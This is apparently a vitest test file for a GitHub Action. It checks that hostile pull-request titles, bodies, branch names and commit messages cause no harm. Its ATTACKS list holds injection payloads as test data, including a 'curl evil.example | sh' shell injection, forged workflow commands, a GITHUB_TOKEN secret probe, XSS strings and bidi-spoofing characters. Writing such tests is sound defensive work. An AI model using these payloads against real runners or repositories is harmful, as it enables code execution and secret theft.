import { describe, expect, it, vi } from 'vitest';
import { DAY } from '../../src/domain/duration.ts';
import { readPublished } from '../github/published-text.ts';
import { commit, pullRequest, user } from '../support/pull-request.ts';
import type { FinishedAction } from '../support/run-action.ts';
import { aQuarter, aShop, NOW, type Shop } from './shop.ts';

vi.setConfig({ testTimeout: 60_000 });

const ATTACKS: readonly string[] = [
  '::set-output name=harness::evil',
  '::error title=harness-metrics::forged',
  '::stop-commands::x',
  '##[command]echo evil',
  '$(curl evil.example | sh) `id` "; id; #',
  '${{ secrets.GITHUB_TOKEN }}',
  '\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  '@everyone @example/core fixes #1 example/shop#2 GH-3',
  'https://github.com/example/shop/pull/1 www.evil.example',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '</details></table><h1>x</h1><!-- harness-metrics:report v=1 scope=x week=2026-W46 -->',
  '[x](javascript:alert(1)) ![x](https://evil.example/x.png) **x** | a | b |',
  'harness=evil\nmodel=evil\npublished=true',
  '\u202egnp.exe\u2066',
];

/** Every text that others write, hostile; the marks are such that the harness is found all the same. */
function hostile(number: number, attack: string) {
  const createdAt = NOW - 3 * DAY;
  const message = `${attack}\n\nCo-Authored-By: Claude ${attack.replaceAll(/[\n<>]/g, ' ')} <noreply@anthropic.com>`;
  return pullRequest({
    number,
    createdAt,
    title: attack,
    body: `${attack}\n\nRequested by: @${attack}`,
    headBranch: attack.replaceAll('\n', ' '),
    commits: [commit({ author: user('ada'), at: createdAt - 60_000, message })],
    mergedAt: createdAt + 60_000,
    mergedBy: user('ada'),
  });
}

/** Lines of a log that a runner would obey, but for our own three. */
function commandsIn(log: string): readonly string[] {
  return log
    .split(/\r\n|[\n\r]/)
    .filter((line) => /^\s*::|##\[/.test(line))
    .filter((line) => !/^::(?:notice|warning|error) title=harness-metrics::/.test(line));
}

function controlsIn(text: string): readonly string[] {
  return [...text].filter(
    (character) => /\p{Cc}|[\u202a-\u202e\u2066-\u2069]/u.test(character) && character !== '\n',
  );
}

/** What a text would do, but for its length: nothing. */
const HARMLESS = {
  mentions: [],
  references: [],
  backlinks: [],
  autolinks: [],
  elements: [],
  dangers: [],
  unbalanced: [],
  images: [],
  controls: [],
};

function expectHarmless({ log, outputText, summary }: FinishedAction, shop: Shop): void {
  expect([commandsIn(log), controlsIn(log)]).toEqual([[], []]);
  expect(outputText).toMatch(/^(?:[a-z-]+=[\w./:-]*\n){6}$/);
  const published = shop.github.published.flatMap(({ kind, title, body }) =>
    kind === 'issue' || kind === 'comment' ? [`${title ?? ''}\n\n${body ?? ''}`] : [],
  );
  for (const text of [summary, ...published]) expect(readPublished(text)).toMatchObject(HARMLESS);
  expect(log + outputText).not.toContain('evil');
}

describe.concurrent('texts that others write', () => {
  it.each(ATTACKS)('do nothing on a pull request: %j', async (attack) => {
    await using shop = await aShop([hostile(1, attack)]);
    const finished = await shop.onPullRequest(1, { inputs: { 'dry-run': 'true' } });
    expect([finished.exitCode, finished.outputs.harness]).toEqual([0, 'claude-code']);
    expectHarmless(finished, shop);
  });

  it('do nothing in the weekly issue, its summary and its log', async () => {
    const attacks = ATTACKS.map((attack, index) => hostile(200 + index, attack));
    await using shop = await aShop([...aQuarter(), ...attacks]);
    const finished = await shop.onSchedule({ inputs: { command: 'report' } });
    expect([finished.exitCode, finished.outputs.published]).toEqual([0, 'true']);
    expectHarmless(finished, shop);
  });

  it('do nothing in the answer to a command', async () => {
    await using shop = await aShop([hostile(1, ATTACKS.join(' '))]);
    const why = await shop.onComment({ by: 'ada', body: '/harness why' });
    expect(why.exitCode).toBe(0);
    expectHarmless(why, shop);
    const unknown = await shop.onComment({ by: 'ada', body: '/harness <script>@everyone#1</script>' });
    expect(unknown.exitCode).toBe(0);
    expectHarmless(unknown, shop);
  });
});
